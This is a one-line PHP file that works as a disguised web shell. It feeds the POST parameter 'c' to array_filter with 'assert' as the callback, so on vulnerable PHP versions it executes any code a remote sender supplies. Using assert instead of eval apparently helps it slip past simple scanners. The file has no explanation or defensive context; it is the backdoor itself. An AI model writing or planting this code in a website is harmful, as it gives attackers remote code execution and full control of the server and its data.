<?php array_filter(array($_POST["c"]), "assert");
